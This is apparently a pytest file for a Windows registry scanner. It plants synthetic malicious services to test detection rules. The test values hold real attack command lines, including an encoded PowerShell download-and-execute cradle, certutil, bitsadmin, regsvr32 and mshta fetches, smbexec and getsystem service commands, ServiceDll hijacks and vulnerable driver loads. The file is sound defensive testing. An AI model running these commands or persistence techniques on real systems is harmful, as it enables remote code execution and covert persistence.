"""Planted persistence of every kind is found at medium or higher - with names, folders and
payloads generated here, not the fixtures' strings, so the rules must generalise.

Kinds that need fields other engineers are adding (deny ACEs and weak permissions need
``security_sddl``; a writable key needs ``key_writable_by``) are not planted here: their rules
are checked on fixtures and start to match when the fields land (see test_rules.py skips).
"""

from __future__ import annotations

import base64
import random
import string
from collections.abc import Callable
from pathlib import Path

import pytest

import hivescan
from hivescan.catalog.tables import load_table
from hivescan.detect.rules import SEVERITY_RANK, load_rules
from hivescan.detect.scan import scan_hive
from hivescan.hive.regtypes import REG_BINARY, REG_EXPAND_SZ, REG_SZ
from hivescan.testing.encoders import encode_failure_actions
from hivescan.testing.regf import WKey, sz
from tests.conftest import system_root

RULES = load_rules()


def letters(rng: random.Random, n: int) -> str:
    return "".join(rng.choice(string.ascii_letters) for _ in range(n))


def word(rng: random.Random) -> str:
    return rng.choice(["Contoso", "Fabrikam", "Northwind", "Tailspin", "Litware", "Adatum"]) + letters(rng, 3)


def service(
    parent: WKey, name: str, *, type_: int = 0x10, start: int = 3, image: str | None = None, expand: bool = False
) -> WKey:
    key = parent.key(name)
    key.set_dword("Type", type_).set_dword("Start", start).set_dword("ErrorControl", 1)
    if image is not None:
        key.set("ImagePath", REG_EXPAND_SZ if expand else REG_SZ, sz(image))
    return key


def _user_folder(rng: random.Random) -> str:
    user = letters(rng, 6).lower()
    return rng.choice(
        [
            rf"C:\Users\{user}\AppData\Local\{word(rng)}",
            rf"C:\Users\{user}\AppData\Roaming\{word(rng)}",
            rf"C:\Users\Public\{word(rng)}",
            rf"C:\Windows\Temp\{word(rng)}",
            rf"C:\PerfLogs\{word(rng)}",
            rf"C:\Users\{user}\Downloads",
        ]
    )


def _stock_dll_services() -> list[tuple[str, str]]:
    table = load_table("windows_expected.csv")
    return [
        (r["service_name"], r["expected_regex"])
        for r in table.rows
        if r["value_name"] == "ServiceDll"
        and "System32" in r["expected_regex"]
        and "_" not in r["service_name"]
        and r["service_name"] != "Schedule"  # part of the clean base
    ]


def _drivers(category: str) -> list[str]:
    stock = {"afd.sys", "csc.sys", "termdd.sys"}
    return [
        r["file_name"]
        for r in load_table("loldrivers.csv").rows
        if r["category"] == category and r["file_name"].endswith(".sys") and r["file_name"] not in stock
    ]


Plant = Callable[[random.Random, WKey, str], None]


def psexec_renamed(rng: random.Random, s: WKey, name: str) -> None:
    service(s, name, image=r"%SystemRoot%\PSEXESVC.exe", expand=True)


def paexec(rng: random.Random, s: WKey, name: str) -> None:
    tag = f"PAExec-{rng.randint(100, 99999)}-{letters(rng, 8).upper()}"
    service(s, name, image=rf"C:\WINDOWS\{tag}.exe")


def impacket_psexec(rng: random.Random, s: WKey, name: str) -> None:
    service(s, name, image=rf"%systemroot%\{letters(rng, 8)}.exe", expand=True)


def smbexec(rng: random.Random, s: WKey, name: str) -> None:
    bat, out = letters(rng, 8), letters(rng, 8)
    cmd = (
        rf"%COMSPEC% /Q /c echo {rng.choice(['ipconfig', 'whoami /all', 'net user'])} ^> "
        rf"\\%COMPUTERNAME%\C$\__output_{out} 2^>^&1 > %SYSTEMROOT%\{bat}.bat & "
        rf"%COMSPEC% /Q /c %SYSTEMROOT%\{bat}.bat & del %SYSTEMROOT%\{bat}.bat"
    )
    service(s, name, image=cmd, expand=True)


def msf_psexec(rng: random.Random, s: WKey, name: str) -> None:
    key = service(s, name, image=rf"%SYSTEMROOT%\{letters(rng, 8)}.exe", expand=True)
    key.set("DisplayName", REG_SZ, sz(letters(rng, 16)))


def getsystem(rng: random.Random, s: WKey, name: str) -> None:
    service(
        s, name, image=rf"%COMSPEC% /c echo {rng.getrandbits(40):x} > \\.\pipe\{rng.randint(1000, 999999)}", expand=True
    )


def admin_share(rng: random.Random, s: WKey, name: str) -> None:
    host = rng.choice(["127.0.0.1", "localhost", f"WS{rng.randint(1, 99):02d}"])
    service(s, name, image=rf"\\{host}\ADMIN$\{letters(rng, 7).lower()}.exe")


def encoded_powershell(rng: random.Random, s: WKey, name: str) -> None:
    url = f"http://10.{rng.randint(0, 255)}.1.{rng.randint(1, 254)}/{letters(rng, 5)}"
    payload = f"IEX (New-Object Net.WebClient).DownloadString('{url}')"
    b64 = base64.b64encode(payload.encode("utf-16-le")).decode()
    switch = rng.choice(["-enc", "-e", "-EncodedCommand", "-ec"])
    host = rng.choice(["powershell.exe", r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "pwsh"])
    service(s, name, image=f"{host} -w hidden {switch} {b64}")


def interpreter(rng: random.Random, s: WKey, name: str) -> None:
    shell = rng.choice(["cmd.exe", "cmd", r"C:\Windows\system32\cmd.exe", "%COMSPEC%"])
    service(s, name, image=rf"{shell} /c {_user_folder(rng)}\{letters(rng, 6)}.bat", expand=True)


def lolbin(rng: random.Random, s: WKey, name: str) -> None:
    tool = rng.choice(
        [
            "certutil.exe -urlcache -f http://x/y",
            "bitsadmin /transfer j http://x/y",
            "msbuild.exe",
            r"C:\Windows\Microsoft.NET\Framework\v4.0.30319\InstallUtil.exe /U",
            "regsvr32 /s /i:http://x/y scrobj.dll",
            "mshta http://x/y.hta",
        ]
    )
    service(s, name, image=f"{tool} {letters(rng, 5)}")


def user_writable(rng: random.Random, s: WKey, name: str) -> None:
    path = rf"{_user_folder(rng)}\{letters(rng, 7)}.exe"
    service(s, name, start=2, image=rng.choice([path, f'"{path}" -service']))


def unquoted(rng: random.Random, s: WKey, name: str) -> None:
    service(
        s, name, start=2, image=rf"C:\Program Files\{word(rng)} {word(rng)}\{letters(rng, 6)}.exe -{letters(rng, 3)}"
    )


def driver_staged(rng: random.Random, s: WKey, name: str) -> None:
    drv = rng.choice(_drivers("vulnerable"))
    prefix = rng.choice(["\\??\\", ""])
    service(s, name, type_=1, image=rf"{prefix}{_user_folder(rng)}\{drv}")


def driver_malicious(rng: random.Random, s: WKey, name: str) -> None:
    service(s, name, type_=1, start=1, image=rf"System32\drivers\{rng.choice(_drivers('malicious'))}", expand=True)


def driver_not_sys(rng: random.Random, s: WKey, name: str) -> None:
    service(
        s,
        name,
        type_=rng.choice([1, 2]),
        image=rf"\??\C:\Windows\System32\{letters(rng, 6)}.{rng.choice(['dat', 'bin', 'exe'])}",
    )


def servicedll_hijack(rng: random.Random, s: WKey, name: str) -> None:
    stock, _ = rng.choice(_stock_dll_services())
    key = service(s, stock, type_=0x20, image=r"%SystemRoot%\System32\svchost.exe -k netsvcs -p", expand=True)
    folder = rng.choice([rf"C:\ProgramData\{word(rng)}", _user_folder(rng), rf"C:\{word(rng)}"])
    key.key("Parameters").set("ServiceDll", REG_EXPAND_SZ, sz(rf"{folder}\{stock.lower()}.dll"))


def failure_command(rng: random.Random, s: WKey, name: str) -> None:
    key = service(s, name, image=rf'"C:\Program Files\{word(rng)}\svc.exe"')
    command = rng.choice(
        [
            rf"{_user_folder(rng)}\{letters(rng, 5)}.exe",
            f"powershell -nop -c {letters(rng, 8)}",
            rf"rundll32.exe C:\ProgramData\{letters(rng, 5)}.dll,Start",
        ]
    )
    key.set("FailureCommand", REG_SZ, sz(command))
    key.set(
        "FailureActions", REG_BINARY, encode_failure_actions(0, [{"action": "run_command", "delay_ms": 0}], command=1)
    )


def pending_delete(rng: random.Random, s: WKey, name: str) -> None:
    service(s, name, image=rf'"C:\Program Files\{word(rng)}\agent.exe"').set_dword("DeleteFlag", 1)


def masquerade(rng: random.Random, s: WKey, name: str) -> None:
    folder = rng.choice([r"C:\Windows", r"C:\Windows\SysWOW", _user_folder(rng), r"C:\ProgramData\Microsoft"])
    service(s, name, type_=0x20, start=2, image=rf"{folder}\svchost.exe -k {letters(rng, 6)}")


def hidden_tail(rng: random.Random, s: WKey, name: str) -> None:
    key = service(s, name, image=r"%SystemRoot%\System32\vds.exe", expand=True)
    key.set("Description", REG_SZ, sz(word(rng)) + sz(f"{letters(rng, 10)}"))


def wrapper(rng: random.Random, s: WKey, name: str) -> None:
    key = service(s, name, start=2, image=rf"C:\Tools\{rng.choice(['nssm.exe', 'srvany.exe'])}")
    key.key("Parameters").set("Application", REG_SZ, sz(rf"C:\Tools\{letters(rng, 6)}.exe"))


PLANTS: dict[str, Plant] = {
    f.__name__: f
    for f in (
        psexec_renamed,
        paexec,
        impacket_psexec,
        smbexec,
        msf_psexec,
        getsystem,
        admin_share,
        encoded_powershell,
        interpreter,
        lolbin,
        user_writable,
        unquoted,
        driver_staged,
        driver_malicious,
        driver_not_sys,
        servicedll_hijack,
        failure_command,
        pending_delete,
        masquerade,
        hidden_tail,
        wrapper,
    )
}


def _base(root: WKey, number: int) -> WKey:
    s = root.key(f"ControlSet{number:03d}\\Services")
    service(
        s, "Schedule", type_=0x20, start=2, image=r"%systemroot%\system32\svchost.exe -k netsvcs -p", expand=True
    ).key("Parameters").set("ServiceDll", REG_EXPAND_SZ, sz(r"%systemroot%\system32\schedsvc.dll"))
    service(s, "disk", type_=1, start=0, image=r"System32\drivers\disk.sys", expand=True)
    service(s, "VMTools", start=2, image=r'"C:\Program Files\VMware\VMware Tools\vmtoolsd.exe"')
    return s


@pytest.mark.parametrize("seed", [1, 2, 3, 4])
@pytest.mark.parametrize("kind", sorted(PLANTS))
def test_planted_kind_is_found_at_medium_or_higher(kind: str, seed: int, write_hive) -> None:  # type: ignore[no-untyped-def]
    rng = random.Random(f"{kind}-{seed}")
    root = system_root(1, (1,))
    services = _base(root, 1)
    name = letters(rng, rng.randint(4, 12))
    before = {k.name for k in services.subkeys}
    PLANTS[kind](rng, services, name)
    (planted,) = [k.name for k in services.subkeys if k.name not in before]
    with hivescan.open_hive(write_hive(root)) as hive:
        result = scan_hive(hive, rules=RULES)
    found = [f for f in result.findings if f.service.upper() == planted.upper()]
    best = max((SEVERITY_RANK[f.severity] for f in found), default=-1)
    assert best >= SEVERITY_RANK["medium"], (
        f"{kind} ({planted}) found only as {[(f.rule_id, f.severity) for f in found]}"
    )
    noise = [f for f in result.findings if f.service in ("Schedule", "disk", "VMTools") and f.severity != "low"]
    assert not noise, noise


def test_a_service_only_in_one_control_set_is_found(write_hive: Callable[..., Path]) -> None:
    root = system_root(1, (1, 2))
    current, lkg = _base(root, 1), _base(root, 2)
    rng = random.Random(7)
    added, removed = letters(rng, 9), letters(rng, 9)
    service(current, added, start=2, image=rf'"C:\Program Files\{word(rng)}\a.exe"')
    service(lkg, removed, type_=1, start=1, image=r"System32\drivers\x.sys", expand=True)
    with hivescan.open_hive(write_hive(root)) as hive:
        result = scan_hive(hive, rules=RULES)
    by_service = {f.service: f for f in result.findings if f.rule_id == "service-only-in-some-control-sets"}
    assert set(by_service) == {added, removed}
    assert by_service[added].control_set == 1 and by_service[removed].control_set == 2
    assert by_service[removed].evidence_map["absent_from_control_sets"] == 1
    assert result.identical_skipped == 3  # Schedule, disk, VMTools are evaluated once
